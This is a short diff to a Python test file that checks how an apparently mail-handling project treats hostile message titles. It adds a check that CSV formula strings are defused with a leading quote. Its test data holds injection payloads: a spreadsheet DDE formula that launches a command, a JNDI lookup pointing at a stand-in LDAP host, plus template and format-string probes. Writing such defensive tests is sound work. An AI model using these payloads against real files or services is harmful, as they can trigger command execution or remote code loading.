@@ -2,6 +2,7 @@
 
 import pytest
 
+from nemboks.content.csv_cells import defused
 from tests.badinput.opened import author_of, mail_with, subject_of
 from tests.content.mails import html_of, text_of, words_of
 from tests.content.memos import File
@@ -37,8 +38,9 @@ def test_b12_markup_in_a_title():
 
 @pytest.mark.parametrize("title", ["=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)"])
 def test_b13_a_formula(title):
-    """A formula is a text behind the authority's name; nothing here writes CSV, where it would have to be marked."""
+    """A formula is a text behind the authority's name in a mail, and has a quote in front in a table (ASVS 1.2.10)."""
     assert subject_of(title) == title
+    assert defused(title) == f"'{title}"
 
 
 @pytest.mark.parametrize("title", ["{{7*7}}", "${jndi:ldap://x.example/a}", "%s%n%x", "{0.__class__}", "{}"])
